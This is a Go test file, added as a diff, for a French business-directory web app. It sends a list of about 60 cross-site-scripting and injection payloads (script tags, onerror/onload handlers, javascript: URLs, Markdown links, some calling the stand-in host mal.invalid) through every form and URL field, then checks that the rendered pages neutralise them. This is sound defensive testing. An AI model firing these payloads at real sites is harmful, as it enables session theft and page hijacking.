@@ -1,0 +1,227 @@
+package web_test
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"partant/internal/account"
+	"partant/internal/id"
+	"partant/internal/profile"
+	"partant/internal/viewer"
+	"partant/views"
+)
+
+// payloads are what people write to make a page run their script, load their picture or lose its shape.
+var payloads = []string{
+	// elements
+	`<script>alert(1)</script>`, `<ScRiPt src=//mal.invalid/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
+	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><use href="data:image/svg+xml,x#x"/></svg>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src=javascript:alert(1)>`,
+	`<object data=javascript:alert(1)>`, `<embed src=//mal.invalid>`, `<base href=//mal.invalid/>`, `<meta http-equiv=refresh content="0;url=//mal.invalid">`, `<link rel=stylesheet href=//mal.invalid>`,
+	`<style>*{background:url(//mal.invalid)}</style>`, `<form action=//mal.invalid><input name=jeton>`, `<button formaction=javascript:alert(1)>x`, `<details open ontoggle=alert(1)>`,
+	`<video><source onerror=alert(1)>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`, `<math><a xlink:href=javascript:alert(1)>x`, `<template><img src=x onerror=alert(1)>`,
+	// ways out of where a text stands
+	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><svg onload=alert(1)>`, `</script><script>alert(1)</script>`,
+	`</option></select><img src=x onerror=alert(1)>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `</svg><img src=x onerror=alert(1)>`, `</style><script>alert(1)</script>`,
+	`" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "` onclick=`alert(1)", `x" style="position:fixed`, `x" hx-get="//mal.invalid" hx-trigger="load`, `x" hx-on:load="alert(1)`, `x" data-here="`,
+	// addresses
+	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `javascript&colon;alert(1)`, "java\tscript:alert(1)", `javascript://x.fr/%0aalert(1)`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`,
+	`//mal.invalid`, `/\mal.invalid`, `https://ici@mal.invalid/`, `https://mal.invalid/"onclick="x`,
+	// Markdown
+	`[x](javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `![x](https://mal.invalid/x.png)`, `<javascript:alert(1)>`, "[x]: javascript:alert(1)\n\n[x]", "`<script>`\n\n<div onclick=alert(1)>x</div>",
+	`[x](data:text/html;base64,PHNjcmlwdD4=)`, `**<img src=x onerror=alert(1)>**`, `<a href="javascript:alert(1)">x</a>`,
+	// other languages, and tricks of encoding
+	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= 7*7 %>`, "\u202e<script>alert(1)</script>", `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `+ADw-script+AD4-alert(1)`, "\u2028<script>alert(1)</script>",
+}
+
+// TestPayloads sends every payload through every field of every form, and looks at every page that shows it.
+func TestPayloads(t *testing.T) {
+	t.Parallel()
+	if len(payloads) < 60 {
+		t.Fatalf("only %d payloads", len(payloads))
+	}
+	h := open(t)
+	c := gather(h)
+	author := h.join("paul", viewer.Member)
+	token := author.token()
+	pages := map[string]bool{}
+	for n, payload := range payloads {
+		if n%20 == 19 { // twenty pages a day
+			h.hands.pass(24 * 60 * 60 * 1e9)
+		}
+		echo(c, payload)
+		slug := c.spread(author, token, payload)
+		for _, path := range []string{"/fiches/" + slug, "/fiches/" + slug + "/modifier", "/fiches/" + slug + "/supprimer"} {
+			author.get(path).is(http.StatusOK).harmless()
+		}
+		c.of["visitor"].get("/fiches/" + slug).is(http.StatusOK).harmless()
+		pages[slug] = true
+	}
+	h.settle()
+	for _, b := range []*browser{c.of["visitor"], author, c.of["admin"]} {
+		for _, path := range []string{"/", "/annuaire", "/annuaire?page=2", "/annuaire?vue=carte", "/annuaire?q=alert", "/annuaire?pres=Orléans", "/communes/orleans", "/carte", "/listes/propose", "/listes/cherche", "/sujets/x", "/compte", "/bienvenue?q=alert"} {
+			b.get(path).harmless()
+		}
+	}
+	for slug := range pages {
+		form := url.Values{views.FieldToken: {token}}
+		author.post("/fiches/"+slug+"/supprimer", form).is(http.StatusSeeOther).follow().is(http.StatusOK).harmless()
+	}
+}
+
+// echo sends a payload where it is only shown again.
+func echo(c *cast, payload string) {
+	q := url.QueryEscape(payload)
+	v := c.h.visit()
+	for _, path := range []string{"/annuaire?q=" + q, "/annuaire?pres=" + q, "/annuaire?etiquette=" + q + "&propose=" + q + "&cherche=" + q + "&tri=" + q + "&vue=" + q + "&type=" + q, "/connexion?suite=" + q, "/sujets/" + url.PathEscape(payload),
+		"/" + url.PathEscape(payload), "/premier-administrateur/" + url.PathEscape(payload)} {
+		v.get(path).harmless()
+	}
+	v.get("/annuaire?q="+q, smooth).harmless()
+	v.post("/connexion", url.Values{account.FieldEmail: {payload}, account.FieldPassword: {payload}, views.FieldNext: {payload}}).harmless()
+	v.post("/inscription", url.Values{account.FieldName: {payload}, account.FieldEmail: {payload}, account.FieldPassword: {payload}, views.FieldNext: {payload}}).harmless()
+	v.cookies[c.h.cookie("avis")] = "fait." + base64.RawURLEncoding.EncodeToString([]byte(payload))
+	v.get("/").harmless()
+	c.of["member"].get("/fiches/nouvelle?nom=" + q + "&type=" + q + "&commune=" + q).harmless()
+}
+
+// spread publishes a page with the payload in every field that takes it.
+func (c *cast) spread(author *browser, token, payload string) (slug string) {
+	c.h.t.Helper()
+	form := url.Values{views.FieldToken: {token}, views.FieldKey: {id.New()}}
+	for _, f := range []profile.Field{profile.FieldPitch, profile.FieldAbout, profile.FieldActivity, profile.FieldStreet, profile.FieldPostcode, profile.FieldPlace, profile.FieldPhone, profile.FieldEmail, profile.FieldWeb, profile.FieldLinks,
+		profile.FieldHours + "_0", profile.FieldSize, profile.FieldFounded, profile.FieldSIRET, profile.FieldTags, profile.FieldOffers, profile.FieldSeeks, profile.FieldTitle, profile.FieldCommune, profile.FieldKind} {
+		form.Set(string(f), payload)
+	}
+	form.Set(string(profile.FieldName), "x"+payload)
+	for range 4 { // some fields are looked at only when others are right
+		a := author.post("/fiches/nouvelle", form)
+		a.harmless()
+		if a.StatusCode == http.StatusSeeOther {
+			return strings.TrimPrefix(a.Header.Get("Location"), "/fiches/")
+		}
+		a.is(http.StatusUnprocessableEntity).correct(form)
+	}
+	c.h.t.Fatalf("%q is never taken", payload)
+	return ""
+}
+
+// correct empties the fields of a form that were refused, or fills them rightly when they must be.
+func (a *answer) correct(form url.Values) {
+	a.t.Helper()
+	for _, link := range a.all(`[role=alert] a[href^="#champ-"]`) {
+		field := strings.TrimPrefix(attribute(link, "href"), "#champ-")
+		form.Del(field)
+		form.Del(field + "_0")
+		switch profile.Field(field) {
+		case profile.FieldKind:
+			form.Set(field, "entreprise")
+		case profile.FieldCommune:
+			form.Set(field, "Orléans")
+		}
+	}
+}
+
+// barred are elements that no page of the site has.
+var barred = map[string]bool{"iframe": true, "object": true, "embed": true, "base": true, "style": true, "video": true, "audio": true, "source": true, "marquee": true, "animate": true, "math": true, "template": true,
+	"applet": true, "frame": true, "frameset": true, "img": true}
+
+// harmless asserts that nothing in the page runs or loads what somebody wrote.
+func (a *answer) harmless() {
+	a.t.Helper()
+	if strings.Contains(a.Header.Get("Location"), "mal.invalid") && !strings.HasPrefix(a.Header.Get("Location"), "/") {
+		a.t.Errorf("%s leads to %q", a.asked, a.Header.Get("Location"))
+	}
+	if a.StatusCode >= 500 {
+		a.t.Errorf("%s: %d", a.asked, a.StatusCode)
+	}
+	if !strings.HasPrefix(a.Header.Get("Content-Type"), "text/html") {
+		return
+	}
+	for n := range a.doc().Descendants() {
+		if n.Type == html.CommentNode {
+			a.t.Errorf("%s: a comment %q", a.asked, n.Data)
+		}
+		if n.Type != html.ElementNode {
+			continue
+		}
+		if why := live(n); why != "" {
+			a.t.Errorf("%.200s: <%s> %s", a.asked, n.Data, why)
+		}
+	}
+}
+
+// live says why an element is not harmless.
+func live(n *html.Node) string {
+	switch {
+	case barred[n.Data]:
+		return "has no place here"
+	case n.Data == "script" && attribute(n, "type") == "application/ld+json":
+		if n.FirstChild == nil || !json.Valid([]byte(n.FirstChild.Data)) {
+			return "is no JSON"
+		}
+		return ""
+	case n.Data == "script" && (!strings.HasPrefix(attribute(n, "src"), "/public/") || n.FirstChild != nil):
+		return "is not ours"
+	case n.Data == "meta" && given(n, "http-equiv"):
+		return "pretends to be a header"
+	case n.Data == "form" && !ours(attribute(n, "action")):
+		return "is sent to " + attribute(n, "action")
+	}
+	for _, a := range n.Attr {
+		if why := liveAttribute(n, a); why != "" {
+			return why
+		}
+	}
+	return ""
+}
+
+func liveAttribute(n *html.Node, a html.Attribute) string {
+	said := a.Key + "=" + a.Val
+	switch a.Key {
+	case "style", "srcdoc", "formaction", "srcset", "ping", "background", "poster":
+		return said
+	case "href":
+		leads := strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "http://") || strings.HasPrefix(a.Val, "tel:") || strings.HasPrefix(a.Val, "mailto:")
+		if !ours(a.Val) && !strings.HasPrefix(a.Val, "#") && !(leads && (n.Data == "a" || attribute(n, "rel") == "canonical")) {
+			return said
+		}
+	case "src", "action", "hx-get", "hx-post", "data", "xlink:href":
+		if !ours(a.Val) {
+			return said
+		}
+	default:
+		if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(a.Key, "hx-on") || a.Namespace == "xlink" {
+			return said
+		}
+	}
+	return ""
+}
+
+// ours reports whether an address is a path of the site, or nothing.
+func ours(address string) bool {
+	return address == "" || strings.HasPrefix(address, "/") && !strings.HasPrefix(address, "//") && !strings.HasPrefix(address, `/\`)
+}
+
+// The payloads would be found if a page let them through.
+func TestHarmlessSees(t *testing.T) {
+	t.Parallel()
+	for _, payload := range payloads[:24] {
+		doc, err := html.Parse(strings.NewReader("<!DOCTYPE html><body>" + payload))
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen := false
+		for n := range doc.Descendants() {
+			seen = seen || n.Type == html.ElementNode && live(n) != ""
+		}
+		if !seen {
+			t.Errorf("%s is taken for harmless", payload)
+		}
+	}
+}
